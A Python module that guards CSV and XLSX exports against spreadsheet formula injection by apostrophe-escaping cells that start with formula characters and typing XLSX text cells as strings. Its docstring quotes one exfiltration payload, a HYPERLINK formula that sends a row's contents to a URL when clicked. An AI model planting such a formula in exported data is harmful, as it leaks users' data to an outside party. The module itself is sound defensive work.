"""Writing CSV and XLSX files that are safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
spreadsheet programs (`=HYPERLINK("http://…?"&A2,"x")` sends the row elsewhere when clicked).
Every export writes its cells through `spreadsheet_cell`, which puts an apostrophe in front of
such text, and XLSX cells are written with the string type, never as formulas. Numbers, dates
and booleans are written as they are. `spreadsheet_unescape` undoes the apostrophe on import,
so an exported file imports back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

_PLAIN_TYPES = (bool, int, float, decimal.Decimal, datetime.date, datetime.datetime)


def spreadsheet_cell(value: Any) -> Any:
    """`value` made safe for a spreadsheet cell: text that a spreadsheet would read as a
    formula gets a leading apostrophe; numbers, dates and booleans stay as they are."""
    if value is None:
        return ""
    if isinstance(value, _PLAIN_TYPES):
        return value
    text = str(value)
    return ESCAPE + text if text.startswith(FORMULA_PREFIXES) else text


def spreadsheet_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_cell(value) for value in values]


def spreadsheet_unescape(text: str) -> str:
    """The text as it was before `spreadsheet_cell` escaped it (for imports)."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(spreadsheet_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(stream: IO[str], **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> bytes:
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode()


def xlsx_bytes(sheets: Sequence[tuple[str, Sequence[str], Iterable[Iterable[Any]]]]) -> bytes:
    """A workbook of `(title, header, rows)` sheets; text cells are typed as strings."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title[:31])

        def cells(values: Iterable[Any], sheet=sheet) -> list[WriteOnlyCell]:
            out = []
            for value in spreadsheet_row(values):
                cell = WriteOnlyCell(sheet, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
                out.append(cell)
            return out

        sheet.append(cells(header))
        for values in rows:
            sheet.append(cells(values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
